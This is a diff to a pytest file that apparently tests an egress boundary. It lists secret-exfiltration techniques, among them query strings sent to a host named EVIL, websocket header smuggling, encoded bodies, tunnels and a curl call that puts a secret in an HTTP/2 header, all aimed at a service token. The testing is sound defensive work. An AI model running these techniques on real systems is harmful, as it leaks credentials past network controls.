@@ -132,7 +132,8 @@ KNOWN = (
     Leak("another-host", f"https(whole(path=SEEN + '?' + VALUE, host={EVIL!r}), {EVIL!r})"),
     Leak(
         "url-of-a-websocket",
-        "https(whole(path=SEEN + '?' + VALUE, more='Connection: Upgrade\\r\\nUpgrade: websocket\\r\\n', last=False))",
+        "https(whole(path=SEEN + '?' + VALUE, more='Connection: Upgrade\\r\\nUpgrade: websocket\\r\\n', last=False)"
+        " + whole(path='/ok'))",
     ),
     body("lines", "'\\n'.join(VALUE[at : at + 9] for at in range(0, len(VALUE), 9)).encode()"),
     body("quoted-printable-in-lines", "quopri.encodestring(b'x' * 60 + VALUE.encode())"),
@@ -164,7 +165,7 @@ KNOWN = (
     Leak("tunnel", f"https(whole(path=SEEN + '?' + VALUE, host={OPAQUE!r}), {OPAQUE!r})", NOT_LOOKED_INTO),
     Leak(
         "http2",
-        f"subprocess.run(['curl', '-skS', '-m8', '--http2', '-HX-A: ' + VALUE, 'https://{SECOND}' + SEEN],"
+        f"subprocess.run(['curl', '-skS', '-m40', '--http2', '-HX-A: ' + VALUE, 'https://{SECOND}' + SEEN],"
         " capture_output=True).stdout",
         NOT_LOOKED_INTO,
     ),
@@ -318,6 +319,7 @@ def kept(lab: Lab, steady: None) -> Arrived:
 TOKEN_LINE = 'TOKEN = os.environ["SERVICE_TOKEN"]\n'
 
 
+@pytest.mark.timeout(400)  # the first of them makes three runs of all
 @pytest.mark.parametrize("leak", LEAKS, ids=lambda leak: leak.name)
 def test_leak(leak: Leak, bare: Arrived, unkept: Arrived, kept: Arrived) -> None:
     """It arrives without a boundary and without the rule; with it exactly where the table says so."""
